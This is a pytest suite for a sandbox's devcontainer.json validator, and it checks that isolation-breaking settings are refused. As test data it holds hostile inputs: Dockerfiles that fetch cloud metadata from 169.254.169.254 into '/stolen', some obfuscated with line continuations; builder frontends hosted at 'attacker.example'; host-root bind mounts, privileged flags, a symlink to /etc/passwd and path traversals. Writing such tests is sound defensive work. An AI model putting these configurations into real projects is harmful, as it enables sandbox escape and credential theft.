"""What a project's devcontainer.json may say, and what it may not."""

import json
from pathlib import Path
from typing import Any

import pytest

from contracts.errors import Invalid
from contracts.spec import Devcontainer, Network, NetworkMode, SandboxSpec
from infra.sandbox.devcontainer import jsonc
from infra.sandbox.devcontainer.cli import environment
from infra.sandbox.devcontainer.project import Project, read_project
from infra.sandbox.devcontainer.staging import CONFIG, stage
from infra.sandbox.devcontainer.template import write_template
from tests.devcontainer.rig import write_project

INSIDE = "/workspace"


def read(directory: Path, wanted: Devcontainer | None = None) -> Project:
    return read_project(directory, wanted or Devcontainer(), INSIDE)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("initializeCommand", "touch /escaped"),
        ("mounts", ["source=/,target=/host,type=bind"]),
        ("workspaceMount", "source=/,target=/workspace,type=bind"),
        ("runArgs", ["--privileged"]),
        ("privileged", True),
        ("capAdd", ["SYS_ADMIN"]),
        ("securityOpt", ["seccomp=unconfined"]),
        ("appPort", 8080),
        ("dockerComposeFile", "compose.yaml"),
        ("service", "web"),
        ("runServices", ["web"]),
        ("build", {"dockerfile": "Dockerfile", "options": ["--network=host"]}),
        ("somethingNew", 1),
        ("features", {"ghcr.io/devcontainers/features/docker-in-docker:2": {}}),
        ("features", {"ghcr.io/devcontainers/features/docker-outside-of-docker@sha256:00": {}}),
        ("features", {"http://169.254.169.254/feature.tgz": {}}),
        ("features", {"registry.internal/team/feature:1": {}}),
        ("features", {"../outside": {}}),
        ("overrideFeatureInstallOrder", ["169.254.169.254/team/feature"]),
    ],
)
def test_what_would_open_the_sandbox_is_refused(tmp_path: Path, name: str, value: Any) -> None:
    with pytest.raises(Invalid, match="feature" if "eature" in name else name):
        read(write_project(tmp_path, {"image": "busybox", name: value}))


@pytest.mark.parametrize(("name", "value"), [("privileged", False), ("mounts", []), ("runArgs", [])])
def test_saying_no_to_it_is_fine(tmp_path: Path, name: str, value: Any) -> None:
    assert read(write_project(tmp_path, {"image": "busybox", name: value})).image == "busybox"


def test_docker_in_docker_is_refused_in_the_specification_too(tmp_path: Path) -> None:
    write_project(tmp_path, {"image": "busybox"})
    with pytest.raises(Invalid, match="docker-in-docker"):
        read(tmp_path, Devcontainer(features={"anywhere.example/x/docker-in-docker:2": {}}))


def test_features_of_the_specification_are_added_and_win(tmp_path: Path) -> None:
    write_project(tmp_path, {"image": "busybox", "features": {"./a": {"v": "1"}, "ghcr.io/x/b:1": {}}})
    wanted = Devcontainer(features={"./a": {"v": "2"}, "registry.internal/team/c:1": {"on": True}})
    found = read(tmp_path, wanted).features
    assert found == {"./a": {"v": "2"}, "ghcr.io/x/b:1": {}, "registry.internal/team/c:1": {"on": True}}


def test_what_editors_need_is_passed_over(tmp_path: Path) -> None:
    write_project(tmp_path, {"image": "busybox", "customizations": {"vscode": {}}, "forwardPorts": [3000], "name": "x"})
    assert read(tmp_path) == Project(directory=".devcontainer", image="busybox")


@pytest.mark.parametrize(
    "given", ["${localEnv:SECRET}", "${env:SECRET}", "${local${localEnv:x}Env:SECRET}", "${localEnv:A}${env:B}"]
)
def test_variables_of_the_host_are_blank(tmp_path: Path, given: str) -> None:
    found = read(write_project(tmp_path, {"image": "busybox", "containerEnv": {"X": given}}))
    assert found.container_env == {"X": ""}


def test_a_default_takes_the_place_of_a_variable_of_the_host(tmp_path: Path) -> None:
    command = ["${localEnv:HOME:none}", "${localWorkspaceFolder}/x"]
    found = read(write_project(tmp_path, {"image": "busybox", "onCreateCommand": command}))
    assert found.lifecycle == {"onCreateCommand": ["none", "/workspace/x"]}


def test_the_cli_is_given_no_secret_of_the_host(tmp_path: Path) -> None:
    host = {"PATH": "/bin", "AWS_SECRET_ACCESS_KEY": "s3cret", "GITHUB_TOKEN": "s3cret", "HOME": "/nowhere"}
    given = environment("unix:///engine", tmp_path, host)
    assert given == {"PATH": "/bin", "HOME": str(tmp_path), "TMPDIR": str(tmp_path), "DOCKER_HOST": "unix:///engine"}


def test_a_missing_configuration_is_told_with_its_path_and_what_to_do(tmp_path: Path) -> None:
    with pytest.raises(Invalid, match=r"other/devcontainer\.json.*cloche devcontainer init"):
        read(tmp_path, Devcontainer(config="other/devcontainer.json"))


@pytest.mark.parametrize(
    "text",
    [
        '{"image": "a/../../containers"}',
        "",
        "{",
        "[]",
        '{"image": 1}',
        '{"image": "a b"}',
        "{}",
        '{"image":"a\\nRUN x"}',
    ],
)
def test_a_damaged_configuration_is_told_by_its_path(tmp_path: Path, text: str) -> None:
    with pytest.raises(Invalid, match=r"\.devcontainer/devcontainer\.json"):
        read(write_project(tmp_path, text))


def test_a_configuration_that_leads_out_of_the_project_is_refused(tmp_path: Path) -> None:
    write_project(tmp_path / "outside", {"image": "busybox"})
    project = tmp_path / "project"
    project.mkdir()
    (project / ".devcontainer").symlink_to(tmp_path / "outside/.devcontainer")
    with pytest.raises(Invalid, match="symbolic link"):
        read(project)
    with pytest.raises(Invalid, match="leads out"):
        read(project, Devcontainer(config="x/../../outside/.devcontainer/devcontainer.json"))


def test_comments_and_trailing_commas_are_fine() -> None:
    text = '{ // one\n "a": "// not /* one */ ,]", /* two\n , */ "b": [1, 2, /* three */ ], }'
    assert jsonc.decode(text) == {"a": "// not /* one */ ,]", "b": [1, 2]}


@pytest.mark.parametrize(
    "value",
    ["[" * 100_000, "[" * 600 + "]" * 600, '"' + "${env:A:" * 5000 + "}" * 5000 + '"'],
    ids=["unclosed", "closed", "variables"],
)
def test_deep_nesting_is_an_error_and_not_a_crash(tmp_path: Path, value: str) -> None:
    with pytest.raises(Invalid):
        read(write_project(tmp_path, '{"image": "busybox", "customizations": ' + value + "}"))


@pytest.mark.parametrize("text", ["/*a" * 80_000, '"' + '\\"' * 120_000], ids=["comment", "string"])
def test_what_never_ends_is_soon_found_out(tmp_path: Path, text: str) -> None:
    # Looked for again from each beginning, this would take longer than a test may.
    with pytest.raises(Invalid):
        read(write_project(tmp_path, text))


@pytest.mark.parametrize("name", ["privileged", "capAdd", "securityOpt", "mounts", "dependsOn"])
def test_a_feature_of_the_project_that_asks_for_more_is_refused(tmp_path: Path, name: str) -> None:
    feature = json.dumps({"id": "f", "version": "1.0.0", name: ["x"]})
    files = {".devcontainer/f/devcontainer-feature.json": feature}
    project = write_project(tmp_path / "project", {"image": "busybox", "features": {"./f": {}}}, files)
    with pytest.raises(Invalid, match=name):
        stage(read(project), project, tmp_path / "staging", SandboxSpec())


def test_a_link_in_a_feature_brings_no_file_of_the_host_into_the_image(tmp_path: Path) -> None:
    files = {".devcontainer/f/devcontainer-feature.json": '{"id": "f", "version": "1.0.0"}'}
    project = write_project(tmp_path / "project", {"image": "busybox", "features": {"./f": {}}}, files)
    (project / ".devcontainer/f/stolen").symlink_to("/etc/passwd")
    with pytest.raises(Invalid, match="stolen"):
        stage(read(project), project, tmp_path / "staging", SandboxSpec())


def test_a_feature_of_the_project_is_written_nowhere_but_where_it_is_staged(tmp_path: Path) -> None:
    files = {
        "a/b/c/devcontainer.json": json.dumps({"image": "busybox", "features": {"./../../../planted": {}}}),
        "planted/devcontainer-feature.json": '{"id": "f", "version": "1.0.0"}',
    }
    project = write_project(tmp_path / "project", "{}", files)
    found = read(project, Devcontainer(config="a/b/c/devcontainer.json"))
    with pytest.raises(Invalid, match="leads out"):
        stage(found, project, tmp_path / "scratch" / "staging", SandboxSpec())
    assert not (tmp_path / "planted").exists()


@pytest.mark.parametrize(
    "dockerfile",
    [
        "FROM scratch\nADD http://169.254.169.254/latest/meta-data /stolen\n",
        "FROM scratch\nonbuild add http://169.254.169.254/latest/meta-data /stolen\n",
        "FROM scratch\nAD\\\n# hidden\n\nD http://169.254.169.254/latest/meta-data /stolen\n",
        "# escape=`\nFROM scratch\nAD`  \nD http://169.254.169.254/latest/meta-data /stolen\n",
        "# syntax=attacker.example/frontend\nFROM scratch\n",
        "#Syntax = docker/dockerfile.attacker.example/x\nFROM scratch\n",
    ],
)
def test_what_the_builder_itself_would_fetch_is_refused_without_network(tmp_path: Path, dockerfile: str) -> None:
    build = {"build": {"dockerfile": "Dockerfile"}}
    project = write_project(tmp_path / "project", build, {".devcontainer/Dockerfile": dockerfile})
    with pytest.raises(Invalid, match="refused"):
        stage(read(project), project, tmp_path / "staging", SandboxSpec())
    full = SandboxSpec(network=Network(mode=NetworkMode.FULL))
    stage(read(project), project, tmp_path / "with-network", full)


def test_another_builder_is_not_chosen_by_an_argument_either(tmp_path: Path) -> None:
    build = {"build": {"dockerfile": "Dockerfile", "args": {"BUILDKIT_SYNTAX": "attacker.example/frontend"}}}
    project = write_project(tmp_path / "project", build, {".devcontainer/Dockerfile": "FROM scratch\n"})
    with pytest.raises(Invalid, match="BUILDKIT_SYNTAX"):
        stage(read(project), project, tmp_path / "staging", SandboxSpec())


def test_a_dockerfile_as_people_write_them_is_fine(tmp_path: Path) -> None:
    text = "# syntax=docker/dockerfile:1\nFROM scratch\nCOPY a \\\n  b\nRUN apk --no-cache \\\n  add x\n"
    build = {"build": {"dockerfile": "Dockerfile"}}
    project = write_project(tmp_path / "project", build, {".devcontainer/Dockerfile": text})
    stage(read(project), project, tmp_path / "staging", SandboxSpec())


@pytest.mark.parametrize("build", [{"dockerfile": "../../outside"}, {"dockerfile": "Dockerfile", "context": "../.."}])
def test_a_build_cannot_reach_out_of_the_project(tmp_path: Path, build: dict[str, str]) -> None:
    (tmp_path / "outside").write_text("FROM scratch\n")
    project = write_project(tmp_path / "project", {"build": build}, {".devcontainer/Dockerfile": "FROM scratch\n"})
    with pytest.raises(Invalid, match="leads out"):
        stage(read(project), project, tmp_path / "staging", SandboxSpec())


def test_what_is_built_has_no_network_unless_the_sandbox_has(tmp_path: Path) -> None:
    project = write_project(tmp_path / "project", {"image": "busybox"})
    stage(read(project), project, tmp_path / "staging", SandboxSpec())
    staged = json.loads((tmp_path / "staging" / CONFIG).read_text())
    assert "--network=none" in staged["build"]["options"]


def test_the_template_is_accepted(tmp_path: Path) -> None:
    write_template(tmp_path)
    assert read(tmp_path).image == "node:22-slim"
